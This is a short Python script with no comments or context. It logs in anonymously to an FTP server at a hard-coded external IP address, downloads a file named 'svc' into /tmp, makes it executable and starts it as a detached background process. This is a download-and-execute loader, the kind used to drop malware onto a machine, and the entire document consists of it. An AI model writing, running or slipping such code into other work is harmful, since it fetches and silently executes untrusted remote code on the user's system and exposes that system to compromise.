from ftplib import FTP
import os
import subprocess

ftp = FTP("77.91.124.20")
ftp.login()
with open("/tmp/svc", "wb") as f:
    ftp.retrbinary("RETR pub/svc", f.write)
ftp.quit()
os.chmod("/tmp/svc", 0o700)
subprocess.Popen(["/tmp/svc"], start_new_session=True)
